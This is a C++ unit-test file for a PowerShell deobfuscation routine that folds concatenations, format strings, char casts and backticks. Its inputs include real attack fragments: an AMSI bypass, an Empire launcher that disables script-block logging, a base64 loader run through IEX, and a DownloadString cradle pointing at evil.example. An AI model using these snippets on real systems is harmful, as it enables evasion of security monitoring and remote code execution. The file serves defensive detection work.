#include <catch2/catch.hpp>

#include <string>
#include <vector>

#include "ioc/text/ps_fold.hpp"

using namespace ioc::text;

namespace {

std::string fold(const std::string& script) {
  return fold_powershell(script).script;
}

using Kinds = std::vector<std::string>;

}  // namespace

TEST_CASE("ps_fold: Empire AMSI bypass and group-policy launcher", "[text][ps_fold]") {
  const auto amsi =
      fold_powershell("[Ref].Assembly.GetType('System.Management.Automation.Amsi'+'Utils')");
  CHECK(amsi.script == "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')");
  CHECK(amsi.folds == 1);
  CHECK(amsi.kinds == Kinds{"concat"});
  CHECK_FALSE(amsi.truncated);

  // Empire 2.5 launcher: a quoted member name with a backtick, string
  // concatenations in method arguments and in indexes.
  const auto gpf = fold_powershell(
      "$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').\"GetFie`ld\"("
      "'cachedGroupPolicySettings','N'+'onPublic,Static');If($GPF){$GPC=$GPF.GetValue($nulL);"
      "If($GPC['ScriptB'+'lockLogging']){$GPC['ScriptB'+'lockLogging']['EnableScriptB'+"
      "'lockLogging']=0}}");
  CHECK(gpf.script ==
        "$GPF=[ref].Assembly.GetType('System.Management.Automation.Utils').'GetField'("
        "'cachedGroupPolicySettings','NonPublic,Static');If($GPF){$GPC=$GPF.GetValue($nulL);"
        "If($GPC['ScriptBlockLogging']){$GPC['ScriptBlockLogging']['EnableScriptBlockLogging']="
        "0}}");
  CHECK(gpf.folds == 5);
  CHECK(gpf.kinds == Kinds{"backtick", "concat"});

  // BC-Security style: ."GEtFie`LD"( becomes .'GEtFieLD'(
  CHECK(fold("$u.\"GEtFie`LD\"('amsiInitFailed','NonPublic,Static')") ==
        "$u.'GEtFieLD'('amsiInitFailed','NonPublic,Static')");
  CHECK(fold("$x.('Get'+'Field')('a')") == "$x.('GetField')('a')");
}

TEST_CASE("ps_fold: format operator", "[text][ps_fold]") {
  const auto r = fold_powershell("(\"{1}{0}\" -f 'b','a')");
  CHECK(r.script == "('ab')");  // the parentheses stay
  CHECK(r.kinds == Kinds{"format"});
  CHECK(fold("(\"{0}{1}\" -f (\"{1}{0}\" -f 'c','b'),'d')") == "('bcd')");
  CHECK(fold("('{0}{1}'-F'a','b')") == "('ab')");
  CHECK(fold("('{0}' -f ('a','b'))") == "('a')");
  CHECK(fold("(\"{0}{{x}}}}\" -f 'a')") == "('a{x}}')");
  CHECK(fold("('{0}{0}' -f 'ab')") == "('abab')");
  CHECK(fold("('{0}:{1}' -f 'port',8080)") == "('port:8080')");
  // Alignment pads in UTF-16 units, right by default, left when negative.
  CHECK(fold("('[{0,4}][{1,-3}]' -f 'ab','c')") == "('[  ab][c  ]')");
  CHECK(fold("('{0,3}' -f '\xc3\xa9')") == "('  \xc3\xa9')");
  // -f binds tighter than +.
  CHECK(fold("$x = '{0}' -f 'a' + 'b'") == "$x = 'ab'");
  // Format strings, bad items and missing arguments are left alone.
  CHECK(fold("(\"{0:X}\" -f 'a')") == "(\"{0:X}\" -f 'a')");
  CHECK(fold("(\"{ 0}\" -f 'a')") == "(\"{ 0}\" -f 'a')");
  CHECK(fold("(\"{0}{1}\" -f 'a')") == "(\"{0}{1}\" -f 'a')");
  CHECK(fold("(\"{0}}\" -f 'a')") == "(\"{0}}\" -f 'a')");
  CHECK(fold("(\"{0\" -f 'a')") == "(\"{0\" -f 'a')");
  CHECK(fold("(\"{0}\" -f $a)") == "(\"{0}\" -f $a)");
  CHECK(fold("($f -f 'a')") == "($f -f 'a')");
}

TEST_CASE("ps_fold: [char] casts", "[text][ps_fold]") {
  const auto r = fold_powershell("[char]83+[char]121+[char]115");
  CHECK(r.script == "'Sys'");
  CHECK(r.kinds == Kinds{"char", "concat"});
  CHECK(fold("$x = [char]0x53+[CHAR]0X79 + [Char] 0x73") == "$x = 'Sys'");
  CHECK(fold("$x = [System.Char]83+[char](121)+[ char ]115") == "$x = 'Sys'");
  CHECK(fold("'a'+[char]98") == "'ab'");
  CHECK(fold("[char](80+3)+'x'") == "'Sx'");
  CHECK(fold("[char](0x49 -bxor 0)+'EX'") == "'IEX'");
  CHECK(fold("[char]0x263A+'x'") ==
        "'\xe2\x98\xba"
        "x'");
  CHECK(fold("$s = ([char]83).ToString()") == "$s = 'S'");
  CHECK(fold("[string][char]83") == "'S'");
  // A char on its own is not a string, and char + int is not folded.
  CHECK(fold("$c = [char]83") == "$c = [char]83");
  CHECK(fold("[char]83 + 1") == "[char]83 + 1");
  // Out of range or a surrogate: left alone.
  CHECK(fold("[char]0x110000+'a'") == "[char]0x110000+'a'");
  CHECK(fold("[char]0xD800+'a'") == "[char]0xD800+'a'");
  CHECK(fold("[char]-1+'a'") == "[char]-1+'a'");
}

TEST_CASE("ps_fold: -join", "[text][ps_fold]") {
  const auto r = fold_powershell("-join('a','b')");
  CHECK(r.script == "'ab'");
  CHECK(r.kinds == Kinds{"join"});
  CHECK(fold("$x = -join ('a','b')") == "$x = 'ab'");
  CHECK(fold("$x = ('a','b') -join ''") == "$x = 'ab'");
  CHECK(fold("$x = ('a','b','c') -join ','") == "$x = 'a,b,c'");
  CHECK(fold("$x = -join [char[]](83,121)") == "$x = 'Sy'");
  CHECK(fold("$x = [char[]](73,69,88) -join ''") == "$x = 'IEX'");
  CHECK(fold("$x = -join @('a','b')") == "$x = 'ab'");
  CHECK(fold("$x = (1..3) -join '-'") == "$x = '1-2-3'");
  CHECK(fold("$x = [string]::Join('', ('I','E','X'))") == "$x = 'IEX'");
  CHECK(fold("$x = [String]::join(',', 'a', 'b')") == "$x = 'a,b'");
  CHECK(fold("$x = [string]::Concat('I','E','X')") == "$x = 'IEX'");
  // Unary -join binds tighter than the comma: (-join 'a'),'b'.
  CHECK(fold("$x = -join 'a','b'") == "$x = 'a','b'");
  CHECK(fold("$x = ('a',$b) -join ''") == "$x = ('a',$b) -join ''");
  CHECK(fold("$x = ('a','b') -join $s") == "$x = ('a','b') -join $s");
}

TEST_CASE("ps_fold: Replace and -replace", "[text][ps_fold]") {
  const auto r = fold_powershell("$x = 'xAx'.Replace('A','b')");
  CHECK(r.script == "$x = 'xbx'");
  CHECK(r.kinds == Kinds{"replace"});
  CHECK(fold("$x = 'xAx'.rEpLaCe('A','b')") == "$x = 'xbx'");
  CHECK(fold("$x = 'xAx'.Replace('a','b')") == "$x = 'xAx'");  // .Replace is case-sensitive
  CHECK(fold("$x = ('IxEyX').Replace('x','').Replace('y','')") == "$x = 'IEX'");
  CHECK(fold("$x = 'aaa'.Replace('aa','b')") == "$x = 'ba'");
  CHECK(fold("$x = 'a1$'.Replace('1$','b$')") == "$x = 'ab$'");
  CHECK(fold("$x = 'xAx' -replace 'a','b'") == "$x = 'xbx'");  // -replace ignores case
  CHECK(fold("$x = 'xAx' -ireplace 'a','b'") == "$x = 'xbx'");
  CHECK(fold("$x = 'xAxa' -creplace 'a','b'") == "$x = 'xAxb'");
  CHECK(fold("$x = 'IaEaX' -replace 'a',''") == "$x = 'IEX'");
  CHECK(fold("$x = 'IaEX' -replace 'a'") == "$x = 'IEX'");
  CHECK(fold("$x = 'I_X' -replace '_',[char]69") == "$x = 'IEX'");
  // Regex metacharacters, $ in the replacement, an empty pattern: left alone.
  CHECK(fold("$x = 'xAx' -replace 'A.','b'") == "$x = 'xAx' -replace 'A.','b'");
  CHECK(fold("$x = 'xAx' -replace '[A]','b'") == "$x = 'xAx' -replace '[A]','b'");
  CHECK(fold("$x = 'xAx' -replace 'A','$1'") == "$x = 'xAx' -replace 'A','$1'");
  CHECK(fold("$x = 'xAx'.Replace('','b')") == "$x = 'xAx'.Replace('','b')");
  // Case-insensitive matching of non-ASCII text depends on the culture.
  CHECK(fold("$x = '\xc3\x84x' -replace 'x','y'") == "$x = '\xc3\x84x' -replace 'x','y'");
  CHECK(fold("$x = '\xc3\x84x' -creplace 'x','y'") == "$x = '\xc3\x84y'");
}

TEST_CASE("ps_fold: string reversal", "[text][ps_fold]") {
  const auto r = fold_powershell("$x = -join ('cba'[-1..-3])");
  CHECK(r.script == "$x = 'abc'");
  CHECK(r.kinds == Kinds{"reverse", "join"});
  CHECK(fold("$x = ('cba'[2..0] -join '')") == "$x = ('abc')");
  CHECK(fold("$x = -join('dlrow'[4..0])") == "$x = 'world'");
  CHECK(fold("$x = 'XEI'[-1..-('XEI'.Length)] -join ''") == "$x = 'IEX'");
  CHECK(fold("$x = -join 'abc'[2..0]") == "$x = 'cba'");
  // Slices and single characters.
  const auto slice = fold_powershell("$x = 'abcd'[1..2] -join ''");
  CHECK(slice.script == "$x = 'bc'");
  CHECK(slice.kinds == Kinds{"join"});
  CHECK(fold("$x = 'abc'[0,2] -join ''") == "$x = 'ac'");
  CHECK(fold("$x = 'abc'[1]+'d'") == "$x = 'bd'");
  CHECK(fold("$x = -join ('\xc3\xa9ta'[-1..-3])") == "$x = 'at\xc3\xa9'");
  // Out of range, or characters outside the BMP: left alone.
  CHECK(fold("$x = -join ('abc'[0..5])") == "$x = -join ('abc'[0..5])");
  CHECK(fold("$x = 'abc'[5]+'d'") == "$x = 'abc'[5]+'d'");
  CHECK(fold("$x = -join ('\xf0\x9f\x98\x80"
             "a'[1..0])") ==
        "$x = -join ('\xf0\x9f\x98\x80"
        "a'[1..0])");
  // On their own, characters and arrays are not strings.
  CHECK(fold("$x = 'cba'[-1..-3]") == "$x = 'cba'[-1..-3]");
}

TEST_CASE("ps_fold: backticks in code", "[text][ps_fold]") {
  const auto r = fold_powershell("I`E`X (Get`-Ch`ildItem)");
  CHECK(r.script == "IEX (Get-ChildItem)");
  CHECK(r.folds == 2);
  CHECK(r.kinds == Kinds{"backtick"});
  CHECK(fold("&(\"{0}{1}\" -f 'I','EX') $c; In`V`OKE-ExpReSsIoN $d") ==
        "&('IEX') $c; InVOKE-ExpReSsIoN $d");
  // `n `t ... are escapes (case-sensitive): those backticks stay; `e is a plain
  // e in Windows PowerShell 5.1 (only PowerShell 7 made it ESC).
  CHECK(fold("S`eT-I`TeM x") == "SeT-ITeM x");
  CHECK(fold("Wri`te-Host x") == "Wri`te-Host x");
  CHECK(fold("a`nb") == "a`nb");
  CHECK(fold("a` b") == "a` b");  // an escaped blank joins two words
  // A line continuation disappears, leaving a blank where tokens would touch.
  const auto cont = fold_powershell("Get-Item `\n  -Path x");
  CHECK(cont.script == "Get-Item   -Path x");
  CHECK(cont.kinds == Kinds{"backtick"});
  CHECK(fold("Get-Item`\r\n-Path x") == "Get-Item -Path x");
  CHECK(fold("$x = 'a' `\n  + 'b'") == "$x = 'ab'");
  // Inside single-quoted strings a backtick is just a character.
  CHECK(fold("$x = 'a`b'") == "$x = 'a`b'");
}

TEST_CASE("ps_fold: double-quoted escapes", "[text][ps_fold]") {
  const auto tab = fold_powershell("$x = \"a`tb\"");
  CHECK(tab.script == "$x = 'a\tb'");
  CHECK(tab.kinds == Kinds{"escape"});
  const auto tick = fold_powershell("$x = \"GEtFie`LD\"");
  CHECK(tick.script == "$x = 'GEtFieLD'");
  CHECK(tick.kinds == Kinds{"backtick"});
  // 5.1: `u{...} is a plain u, `e a plain e.
  CHECK(fold("$x = \"`u{263A}x`0\"") == std::string("$x = 'u{263A}x\0'", 16));
  CHECK(fold("$x = \"a`r`nb`e`a`b`f`v\"") == "$x = 'a\r\nbe\a\b\f\v'");
  CHECK(fold("$x = \"it`'s\" + 'x'") == "$x = 'it''sx'");
  CHECK(fold("$x = \"a`\"b\"\"c`$d\" + 'x'") == "$x = 'a\"b\"c$dx'");
  // Escapes of quotes and $ alone are no obfuscation: such a literal stays.
  CHECK(fold("$x = \"a`\"b\"") == "$x = \"a`\"b\"");
  CHECK(fold("$x = \"a`$b\"") == "$x = \"a`$b\"");
  CHECK(fold("$x = \"plain\"") == "$x = \"plain\"");
  // Expansions are not constant; a bad `u is not either.
  CHECK(fold("$x = \"`t$name\"") == "$x = \"`t$name\"");
  CHECK(fold("$x = \"`t$(Get-Date)\"") == "$x = \"`t$(Get-Date)\"");
  CHECK(fold("$x = \"`u{110000}`t\"") == "$x = 'u{110000}\t'");
  // A literal $ before a blank or at the end is not an expansion.
  CHECK(fold("$x = \"costs $ 5`t$\"") == "$x = 'costs $ 5\t$'");
}

TEST_CASE("ps_fold: things that stay unchanged", "[text][ps_fold]") {
  const std::vector<std::string> same = {
      "$a + 'b'",
      "$a + 'b' + 'c'",  // ($a + 'b') + 'c'
      "$x = \"Hello $name\" + 'x'",
      "$x = 'a' * 3",
      "$x = 1+2",
      "$x = 1 + 'a'",
      "# 'a'+'b'",
      "<# 'a'+'b' #>",
      "$x = 'a''+''b'",
      "$x = 'x','a'+'b'",  // ('x','a') + 'b': an array
      "$x = $a * 'b' + 'c'",
      "Write-Host 'a'+'b'",  // command arguments
      "$x = 'abc' -split 'b'",
      "$x = 'a' + $null",
      "$x = @\"\na $b\n\"@ + 'x'",
      "$x = \"a $(\"b\" + 'c') d\"",
      "$x = 'abc'",
      "",
  };
  for (const auto& s : same) {
    INFO(s);
    const auto r = fold_powershell(s);
    CHECK(r.script == s);
    CHECK(r.folds == 0);
    CHECK(r.kinds.empty());
  }
}

TEST_CASE("ps_fold: commodity loader with [char]0xNN pieces", "[text][ps_fold]") {
  const std::string in =
      "$XX=IEX(('[' + [char]0x53 + 'ystem.Text.Enc' + [char]0x6f + 'ding]::A' + [char]0x53 + "
      "'CII.Get' + [char]0x53 + 'tring([' + [char]0x53 + 'ystem.C' + [char]0x6f + 'nvert]::Fr' + "
      "[char]0x6f + 'mBase6' + [char]0x34 + '' + [char]0x53 + 'tring((get-c' + [char]0x6f + "
      "'ntent -path ''c:\\wind' + [char]0x6f + 'ws\\temp\\picture.jpg''))))'));";
  const auto r = fold_powershell(in);
  CHECK(r.script ==
        "$XX=IEX(('[System.Text.Encoding]::ASCII.GetString([System.Convert]::FromBase64String("
        "(get-content -path ''c:\\windows\\temp\\picture.jpg''))))'));");
  CHECK(r.folds == 1);
  CHECK(r.kinds == Kinds{"char", "concat"});
  // Folding the result again changes nothing.
  const auto again = fold_powershell(r.script);
  CHECK(again.script == r.script);
  CHECK(again.folds == 0);
}

TEST_CASE("ps_fold: Invoke-Obfuscation style samples", "[text][ps_fold]") {
  CHECK(fold("Invoke-Expression ((\"{2}{0}{1}\" -f 'ite-H','ost','Wr') + ' hi')") ==
        "Invoke-Expression ('Write-Host hi')");
  CHECK(fold("(New-Object (\"{1}{0}{2}\" -f 'et.WebC','N','lient')).(\"{1}{0}\" -f "
             "'String','Download').Invoke(('ht'+'tp://'+'evil'+'.example/a'))") ==
        "(New-Object ('Net.WebClient')).('DownloadString').Invoke(('http://evil.example/a'))");
  CHECK(fold("S`eT-I`TeM ('V'+'aRIA'+'blE:'+'Xy') ([TYPe](\"{1}{0}\"-F'T','Tex'))") ==
        "SeT-ITeM ('VaRIAblE:Xy') ([TYPe]('TexT'))");
  CHECK(fold(".( -join 'XEI'[-1..-3] ) ($code)") == ".( 'IEX' ) ($code)");
  CHECK(fold("& ( [string]::Join('', ('I','E','X')) ) 'Write-Host 1'") ==
        "& ( 'IEX' ) 'Write-Host 1'");
  CHECK(fold("iex ([char[]](87,114,105,116,101) -join '')") == "iex ('Write')");
  CHECK(fold("$e = ('{0}{1}' -f 'Ex','it').Replace('it','ec').ToString()") == "$e = 'Exec'");
  CHECK(fold("function f($p = 'a'+'b') { return 'c'+'d' }") ==
        "function f($p = 'ab') { return 'cd' }");
  CHECK(fold("if ($x -eq 'a'+'b') { iex ('c'+'d') }") == "if ($x -eq 'ab') { iex ('cd') }");
  CHECK(fold("foreach ($i in 'a'+'b') { $i }") == "foreach ($i in 'ab') { $i }");
  CHECK(fold("$h = @{ Key = 'a'+'b'; K2 = \"c`td\" }") == "$h = @{ Key = 'ab'; K2 = 'c\td' }");
  CHECK(fold("$x = ('a'+'b').Length") == "$x = ('ab').Length");
  CHECK(fold("$x = 'a' + 'b'.Length") == "$x = 'a1'");  // member access binds tighter
  CHECK(fold("$x = 'a'+'b' + $c") == "$x = 'ab' + $c");
  CHECK(fold("return'a'+'b'") == "return 'ab'");
}

TEST_CASE("ps_fold: here-strings, comments and quotes", "[text][ps_fold]") {
  CHECK(fold("$s = @'\nit's 'here'\n'@ + 'x'") == "$s = 'it''s ''here''x'");
  CHECK(fold("$s = @\"\na`tb \"q\"\n\"@ + 'x'") == "$s = 'a\tb \"q\"x'");
  CHECK(fold("$s = @'\r\nline\r\n'@ + 'x'") == "$s = 'linex'");
  CHECK(fold("$s = @'\n'@ + 'x'") == "$s = 'x'");
  // Quotes inside comments do not start strings.
  CHECK(fold("# it's\n$x = 'a'+'b' # 'c'+'d'") == "# it's\n$x = 'ab' # 'c'+'d'");
  CHECK(fold("<# it's #> $x = 'a'+<# ' #>'b'") == "<# it's #> $x = 'ab'");
  // Typographic quotes are quotes to PowerShell; a folded one is doubled.
  CHECK(fold("$x = \xe2\x80\x98"
             "a\xe2\x80\x99+'b'") == "$x = 'ab'");
  CHECK(fold("$x = 'a\xe2\x80\x99\xe2\x80\x99"
             "b'+'c'") ==
        "$x = 'a\xe2\x80\x99\xe2\x80\x99"
        "bc'");
  CHECK(fold("$x = \"it\xe2\x80\x99s\"+'x'") == "$x = 'it\xe2\x80\x99\xe2\x80\x99sx'");
  // A folded literal never runs into a neighbouring literal or word.
  CHECK(fold("[char]83+[char]84'x'") == "'ST' 'x'");
  CHECK(fold("Write-Host 'x'\"a`tb\"") == "Write-Host 'x'\"a`tb\"");
  CHECK(fold("Write-Host \"a`tb\"'x'") == "Write-Host \"a`tb\"'x'");
  CHECK(fold("Write-Host x\"a`tb\"") == "Write-Host x'a\tb'");
}

TEST_CASE("ps_fold: kinds in first-seen order, each once", "[text][ps_fold]") {
  const auto r = fold_powershell(
      "$a = \"x`y\"; $b = [char]65+'b'; $c = -join('c','d'); $d = 'e'+'f'; $e = \"`t\"");
  CHECK(r.script == "$a = 'xy'; $b = 'Ab'; $c = 'cd'; $d = 'ef'; $e = '\t'");
  CHECK(r.folds == 5);
  CHECK(r.kinds == Kinds{"backtick", "char", "concat", "join", "escape"});
}

TEST_CASE("ps_fold: find_powershell_strings", "[text][ps_fold]") {
  const std::string s =
      "$a = 'it''s' # 'no'\n$b = \"x`ty $c\" <# \"no\" #> @'\nhere\n'@ "
      "\xe2\x80\x98smart\xe2\x80\x99 "
      "\"a $(\"b\") c\"";
  const auto strings = find_powershell_strings(s);
  REQUIRE(strings.size() == 5);

  CHECK(strings[0].value == "it's");
  CHECK(strings[0].begin == s.find("'it"));
  CHECK(strings[0].end == s.find(" #"));
  CHECK(strings[0].quote == '\'');
  CHECK(strings[0].constant);

  CHECK(strings[1].value == "x\ty $c");
  CHECK(strings[1].begin == s.find("\"x"));
  CHECK(strings[1].end == s.find(" <#"));
  CHECK(strings[1].quote == '"');
  CHECK_FALSE(strings[1].constant);

  CHECK(strings[2].value == "here");
  CHECK(strings[2].begin == s.find("@'"));
  CHECK(strings[2].end == s.find("'@") + 2);
  CHECK(strings[2].quote == '\'');
  CHECK(strings[2].constant);

  CHECK(strings[3].value == "smart");
  CHECK(strings[3].begin == s.find("\xe2\x80\x98"));
  CHECK(strings[3].end == s.find(" \"a"));

  // A string inside $( ) does not end the outer one.
  CHECK(strings[4].begin == s.find("\"a"));
  CHECK(strings[4].end == s.size());
  CHECK_FALSE(strings[4].constant);

  CHECK(find_powershell_strings("$x = 'unterminated").empty());
  CHECK(find_powershell_strings("# 'a'\n<# \"b\" #>").empty());
  CHECK(find_powershell_strings("").empty());
  const auto here_dq = find_powershell_strings("@\"\n`t$x\n\"@");
  REQUIRE(here_dq.size() == 1);
  CHECK(here_dq[0].quote == '"');
  CHECK(here_dq[0].value == "\t$x");
  CHECK_FALSE(here_dq[0].constant);
}

TEST_CASE("ps_fold: limits", "[text][ps_fold]") {
  SECTION("max_rounds 0 folds nothing") {
    FoldOptions options;
    options.max_rounds = 0;
    const auto r = fold_powershell("'a'+'b'", options);
    CHECK(r.script == "'a'+'b'");
    CHECK(r.folds == 0);
  }
  SECTION("input larger than max_output") {
    FoldOptions options;
    options.max_output = 5;
    const auto r = fold_powershell("'a'+'b'", options);
    CHECK(r.truncated);
    CHECK(r.script == "'a'+'");
  }
  SECTION("a value larger than max_output is not folded") {
    FoldOptions options;
    options.max_output = 20;
    const auto r = fold_powershell("('{0,30}' -f 'a')", options);
    CHECK(r.truncated);
    CHECK(r.script == "('{0,30}' -f 'a')");
    CHECK(r.folds == 0);
  }
  SECTION("growth by repeated Replace stays bounded") {
    std::string in = "$x = 'aaaaaaaa'";
    for (int i = 0; i < 40; ++i) in += ".Replace('a','aa')";
    FoldOptions options;
    options.max_output = 4096;
    const auto r = fold_powershell(in, options);
    CHECK(r.truncated);
    CHECK(r.script.size() <= 4096);
  }
  SECTION("a long chain of concatenations") {
    std::string in = "$x = 'a'";
    for (int i = 1; i < 20000; ++i) in += "+'a'";
    const auto r = fold_powershell(in);
    CHECK(r.script == "$x = '" + std::string(20000, 'a') + "'");
    CHECK(r.folds == 1);
  }
  SECTION("a long array") {
    std::string in = "$x = -join ('a'";
    for (int i = 1; i < 20000; ++i) in += ",'b'";
    in += ")";
    CHECK(fold(in) == "$x = 'a" + std::string(19999, 'b') + "'");
  }
  SECTION("deep nesting is bounded") {
    const std::string shallow = std::string(10, '(') + "'a'+'b'" + std::string(10, ')');
    CHECK(fold(shallow) == std::string(10, '(') + "'ab'" + std::string(10, ')'));
    const std::string deep = std::string(300, '(') + "'a'+'b'" + std::string(300, ')');
    CHECK(fold(deep) == deep);
    const std::string unbalanced = "$x = " + std::string(5000, '(') + "'a'+'b'";
    CHECK(fold(unbalanced) == unbalanced);
    std::string prefixes = "$x = ";
    for (int i = 0; i < 5000; ++i) prefixes += "-join ";
    CHECK(fold(prefixes + "'a'") == "$x = 'a'");
    const std::string strings = std::string(200, '"') + "$(" + std::string(200, '"');
    CHECK(fold(strings) == strings);
  }
}

TEST_CASE("ps_fold: literal scanning, member names and long inputs", "[text][ps_fold]") {
  // Literals longer than eight bytes, with '' and non-ASCII at various offsets.
  CHECK(fold("$x = 'abcdefgh''ijklmnop' + 'q\xc3\xa9"
             "rstuvwxyz0123' + 'x'") ==
        "$x = 'abcdefgh''ijklmnopq\xc3\xa9"
        "rstuvwxyz0123x'");
  CHECK(fold("$x = 'abcdefghijklmnopqrstuvwxyz' + '0123456''7' + 'abcdefg\xe2\x80\x99\xe2\x80\x99"
             "hij'") ==
        "$x = 'abcdefghijklmnopqrstuvwxyz0123456''7abcdefg\xe2\x80\x99\xe2\x80\x99"
        "hij'");
  // Member and keyword names: backticks removed in words, not in quoted names;
  // any case.
  CHECK(fold("$x = 'x' + 'abc'.Len`gth + 'abc'.'Len`gth'") == "$x = 'x3' + 'abc'.'Len`gth'");
  const auto members = fold_powershell("$x = ('ab').To`String() + 'cd'.\"Rep`lace\"('c','e')");
  CHECK(members.script == "$x = 'abed'");
  CHECK(members.kinds == Kinds{"replace", "concat", "backtick"});
  CHECK(fold("I`F ('a'+'b') { R`ETURN 'c'+'d' }") == "IF ('ab') { RETURN 'cd' }");
  CHECK(fold("$x = ('a','b' -JOIN '') + (-JoIn('c','d')) + ('{0}' -F 'e')") == "$x = 'abcde'");
  CHECK(fold("$x = [System.String]::Concat('a','b') + [STRING]::jOiN('-', 'c', 'd')") ==
        "$x = 'abc-d'");
  // Calls inside calls, many arguments.
  CHECK(fold("$x = [string]::Concat('a', [string]::Join('-', 'b', 'c'), "
             "('d'+'e').Replace('d','f'))") == "$x = 'ab-cfe'");
  CHECK(fold("$x = [string]::Concat('a','b','c','d','e','f',[string]::Concat('g','h','i','j','k',"
             "'l','m'),'n','o','p','q','r')") == "$x = 'abcdefghijklmnopqr'");
  CHECK(fold("$GPC['a'+'b']['c'+'d'] = $GPC['e'+'f'].Get('g'+'h', 'i'+'j')") ==
        "$GPC['ab']['cd'] = $GPC['ef'].Get('gh', 'ij')");
  // One token per byte, and deep groups: more tokens than first guessed.
  const std::string semicolons(3000, ';');
  CHECK(fold(semicolons + "$x = 'a'+'b'") == semicolons + "$x = 'ab'");
  CHECK(fold("$x = (" + std::string(40, '(') + "'a'+'b'" + std::string(40, ')') +
             ") + [char]0x41") == "$x = 'abA'");
}
